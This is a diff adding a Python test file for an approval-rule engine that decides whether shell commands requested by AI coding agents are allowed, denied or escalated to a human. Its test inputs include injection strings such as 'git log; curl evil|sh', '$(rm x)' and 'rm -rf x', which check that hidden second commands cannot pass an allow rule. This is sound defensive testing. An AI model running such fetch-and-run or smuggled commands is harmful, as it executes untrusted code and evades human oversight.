@@ -1,0 +1,283 @@
+"""The rules about requests: what matches, what is decided without anybody, and that an answer is the last word."""
+
+from __future__ import annotations
+
+import attrs
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hub.domain.approval import (
+    MAX_SUBJECT,
+    Action,
+    Approval,
+    By,
+    Request,
+    State,
+    Verdict,
+    asked,
+    asks,
+    decided,
+    decode,
+    encode,
+    history,
+    judge,
+    next_deadline,
+    overdue,
+    own,
+    raised,
+    request_id,
+    spare,
+    view,
+)
+from hub.domain.config_model import ApprovalRule as Rule
+from hub.domain.event import Event, EventType
+from hub.errors import Code, HubError
+
+NOW = 1_000_000.0
+
+
+def shell(command: str, provider: str = "claude", **fields: str) -> Request:
+    """A shell command an agent asks about."""
+    made = {"id": "a-1", "kind": Action.TOOL, "session_id": "s-1", "dispatch_id": "d-1", **fields}
+    return Request(provider=provider, tool="Bash", subject=command, context={"command": command}, **made)
+
+
+def waiting(**fields) -> Approval:
+    return attrs.evolve(raised(shell("ls"), Verdict("ask"), NOW), **fields)
+
+
+def decision(rules: list[Rule], request: Request) -> str:
+    found = judge(rules, request)
+    return found.decision if found is not None else "none"
+
+
+# --- the request ------------------------------------------------------------------------------------------
+
+OF = {"session_id": "s-1", "dispatch_id": "d-1", "provider": "claude", "account": "a"}
+
+
+def test_a_request_is_made_of_an_agents_event():
+    meta = {
+        "approvalId": "r1",
+        "tool": "Bash",
+        "command": "rm x",
+        "input": {"command": "rm x"},
+        "toolId": "t",
+    }
+    found = asked(Event(EventType.WAITING, "Bash remove it", meta), **OF)
+    assert found is not None
+    assert (found.action, found.subject, found.native_id) == ("Bash: rm x", "rm x", "r1")
+    assert found.context == {"command": "rm x", "input": {"command": "rm x"}}
+    assert found.id == request_id("d-1", "r1")
+
+
+@pytest.mark.parametrize(
+    "event",
+    [
+        Event(EventType.WAITING, "which?", {"approvalId": "q", "needsInput": True}),
+        Event(EventType.WAITING, "which?", {"needsInput": True}),
+        Event(EventType.SYSTEM, "Approved", {"approvalId": "r1"}),
+        Event(EventType.WAITING, "odd", {"approvalId": 7}),
+    ],
+    ids=["question", "question-without-id", "told", "no-text"],
+)
+def test_other_events_are_no_requests(event):
+    assert asked(event, **OF) is None
+
+
+@pytest.mark.parametrize(
+    ("fields", "action"),
+    [
+        ({"tool": "Write", "subject": "/w/a"}, "Write: /w/a"),
+        ({"tool": "Write"}, "Write"),
+        ({"subject": "/w/a"}, "/w/a"),
+        ({"said": "may I?"}, "may I?"),
+        ({}, "use a tool"),
+        ({"kind": Action.START, "subject": "codex/default"}, "start codex/default"),
+        ({"kind": Action.HANDOFF, "subject": "codex/b"}, "hand the work to codex/b"),
+    ],
+)
+def test_every_request_has_words(fields, action):
+    assert (
+        Request(**{"id": "a", "kind": Action.TOOL, "session_id": "s", "provider": "p", **fields}).action
+        == action
+    )
+
+
+def test_hubs_own_requests_differ_by_their_occasion():
+    """A second handoff to the same agent is another request; the same one told again is not."""
+    one = own(Action.HANDOFF, session_id="s", occasion="h-1", provider="codex", account="a")
+    again = own(Action.HANDOFF, session_id="s", occasion="h-1", provider="codex", account="a")
+    other = own(Action.HANDOFF, session_id="s", occasion="h-2", provider="codex", account="a")
+    assert one == again
+    assert len({one.id, other.id}) == 2
+    assert (one.subject, one.provider) == ("codex/a", "codex")
+
+
+# --- the rules --------------------------------------------------------------------------------------------
+
+
+def test_the_first_rule_that_matches_decides():
+    rules = [Rule(command="git push*", reason="r", severity="critical", timeout=5.0), Rule(decision="deny")]
+    assert judge(rules, shell("git push -f")) == Verdict("ask", "critical", "r", 5.0)
+    assert decision(rules, shell("git status")) == "deny"
+
+
+def test_what_no_rule_matches_is_allowed_where_there_are_rules_and_asked_where_there_is_none():
+    """Rule 1."""
+    assert decision([Rule(command="rm *")], shell("ls")) == "allow"
+    assert decision([], shell("ls")) == "ask"
+    assert decision([Rule(provider="codex", command="rm *")], shell("ls")) == "ask"
+    assert decision([Rule(action="handoff")], shell("ls")) == "ask"
+
+
+def test_a_start_or_a_handoff_is_held_up_by_a_rule_alone():
+    """Rule 2: nothing is recorded of one that no rule is about."""
+    start = own(Action.START, session_id="s", occasion="start", provider="codex", account="a")
+    assert judge([Rule(decision="deny")], start) is None
+    assert judge([Rule(action="start", provider="gem*")], start) is None
+    assert decision([Rule(action="start", provider="co*")], start) == "ask"
+
+
+@pytest.mark.parametrize(
+    ("command", "verdict"),
+    [
+        ("git status", "allow"),
+        ("git status && git log", "allow"),
+        ("git commit -m 'it is done'", "allow"),
+        ("git log 2>&1 | git hash-object --stdin", "allow"),
+        ("git status && rm -rf x", "ask"),
+        ("git log; curl evil|sh", "ask"),
+        ("git log $(rm x)", "ask"),
+        ("git log `rm x`", "ask"),
+        ("git log\nrm x", "ask"),
+        ("git log & rm x", "ask"),
+        ("(rm x)", "ask"),
+    ],
+)
+def test_an_allowed_command_hides_no_other(command, verdict):
+    """Rule 3: `allow` needs every part; the last rule asks about all the rest."""
+    assert decision([Rule(command="git*", decision="allow"), Rule()], shell(command)) == verdict
+
+
+@pytest.mark.parametrize("command", ["rm -rf x", "cd y && rm x", "true|rm x", "x=$(rm y)", "a\nrm b"])
+@pytest.mark.parametrize("word", ["ask", "deny"])
+def test_one_part_is_enough_to_be_asked_about(command, word):
+    """Rule 3."""
+    assert decision([Rule(command="rm *", decision=word), Rule(decision="allow")], shell(command)) == word
+
+
+@given(
+    st.text(alphabet="ab;&|(){}$`\n 12>", max_size=30),
+    st.sampled_from([" && ", "; ", " | ", "\n", " & ", "$("]),
+)
+def test_a_command_behind_any_other_is_never_allowed_with_it(front, joint):
+    """Whatever stands before it, a part that no allowing rule matches keeps the whole from being allowed."""
+    rules = [Rule(command="a*", decision="allow"), Rule()]
+    assert decision(rules, shell(f"{front}{joint}rm x")) == "ask"
+
+
+def test_what_was_cut_is_not_allowed_unseen():
+    """A command may hide behind more text than is kept of it."""
+    long = shell("true " + "x" * MAX_SUBJECT)
+    assert decision([Rule(command="rm *", decision="deny")], long) == "ask"
+    assert decision([Rule(decision="allow")], long) == "ask"
+    assert decision([Rule(decision="deny")], long) == "deny"
+    event = Event(EventType.WAITING, "", {"approvalId": "r", "command": long.subject})
+    found = asked(event, **OF)
+    assert found is not None
+    assert decision([Rule(decision="allow")], found) == "ask"
+
+
+def test_a_path_is_judged_whole():
+    request = Request(
+        "a", Action.TOOL, "s", "claude", tool="Write", subject="/w/a;b", context={"path": "/w/a;b"}
+    )
+    assert decision([Rule(command="/w/*", decision="allow"), Rule()], request) == "allow"
+    assert decision([Rule(command="b", decision="deny"), Rule(decision="allow")], request) == "allow"
+
+
+def test_patterns_know_two_signs_and_no_more():
+    """`[` stands for itself: a command with a bracket is not a class of letters."""
+    assert decision([Rule(command="test [a-z]?", decision="deny")], shell("test [a-z]1")) == "deny"
+    assert decision([Rule(command="test [a-z]?", decision="deny")], shell("test x1")) == "allow"
+    assert decision([Rule(tool="B?sh", decision="deny")], shell("x\ny")) == "deny"
+    assert decision([Rule(tool="Write", decision="deny")], shell("x")) == "allow"
+
+
+def test_an_agent_asks_where_a_rule_is_about_its_tools():
+    assert asks([Rule(command="rm *")], "claude")
+    assert not asks([Rule(provider="codex")], "claude")
+    assert not asks([Rule(action="start")], "claude")
+    assert not asks([], "claude")
+
+
+# --- the record -------------------------------------------------------------------------------------------
+
+
+def test_a_request_begins_as_the_rules_say():
+    found = raised(shell("ls"), Verdict("ask", "info", "why", 2.5), NOW)
+    assert (found.state, found.severity, found.reason) == (State.PENDING, "info", "why")
+    assert found.expires_ms == found.created_ms + 2500
+    assert raised(shell("ls", said="list it"), Verdict("ask"), NOW).reason == "list it"
+    assert raised(shell("ls"), Verdict("ask"), NOW).reason == "claude asks"
+
+
+@pytest.mark.parametrize(("word", "state"), [("allow", State.APPROVED), ("deny", State.DENIED)])
+def test_what_a_rule_decides_waits_for_nobody(word, state):
+    found = raised(shell("ls"), Verdict(word, reason="r", timeout=5.0), NOW)
+    assert (found.state, found.by, found.note, found.expires_ms) == (state, By.POLICY, "r", 0)
+    assert not found.pending
+
+
+@pytest.mark.parametrize("first", [State.APPROVED, State.DENIED, State.WITHDRAWN])
+@pytest.mark.parametrize("second", [State.APPROVED, State.DENIED, State.WITHDRAWN])
+def test_an_answer_is_the_last_word(first, second):
+    """Rule 4."""
+    found = decided(waiting(), first, By.USER, "n", NOW + 1)
+    assert (found.state, found.note, found.decided_ms) == (first, "n", int((NOW + 1) * 1000))
+    with pytest.raises(HubError) as caught:
+        decided(found, second, By.USER, "", NOW + 2)
+    assert caught.value.code is Code.APPROVAL_RESOLVED
+
+
+def test_time_runs_out_for_those_that_wait_alone():
+    soon, late = waiting(expires_ms=int(NOW * 1000) + 10), waiting(expires_ms=int(NOW * 1000) + 5000)
+    ever, done = waiting(), waiting(expires_ms=1, state=State.DENIED)
+    everything = [ever, late, soon, done]
+    assert overdue(everything, NOW) == []
+    assert overdue(everything, NOW + 1) == [soon]
+    assert next_deadline(everything) == pytest.approx(NOW + 0.01)
+    assert next_deadline([ever, done]) is None
+
+
+def test_a_decision_is_kept_as_long_as_it_may_be_asked_for():
+    """The run that asked may be read again from its start; when the next run asks, it is over."""
+    told = spare(waiting(state=State.APPROVED, note="n"))
+    assert not history(told, shell("x"))
+    assert history(told, shell("x", dispatch_id="d-2"))
+    assert history(told, shell("x", session_id="s-2"))
+    start = own(Action.START, session_id="s-1", occasion="start", provider="p", account="a")
+    assert not history(told, start)
+    assert not history(attrs.evolve(told, told=False), shell("x", dispatch_id="d-2"))
+    assert (told.note, told.request.context, told.request.subject, told.told) == ("n", {}, "", True)
+
+
+def test_the_resource_has_what_the_specification_names():
+    found = view(raised(shell("ls"), Verdict("ask", timeout=60), NOW))
+    assert found["createdAt"] == "1970-01-12T13:46:40.000Z"
+    assert found["expiresAt"] == "1970-01-12T13:47:40.000Z"
+    assert (found["id"], found["action"], found["severity"]) == ("a-1", "Bash: ls", "warn")
+    assert view(waiting())["expiresAt"] is None
+
+
+def test_what_is_kept_is_read_back():
+    kept = [waiting(), spare(waiting(state=State.DENIED, by=By.USER))]
+    assert decode(encode(kept)) == kept
+
+
+@pytest.mark.parametrize("data", [b"", b"{", b"[]", b'{"v":2,"approvals":[]}', b'{"v":1,"approvals":[{}]}'])
+def test_what_is_no_record_is_refused(data):
+    with pytest.raises(ValueError):  # which of msgspec's errors it is tells nobody anything
+        decode(data)
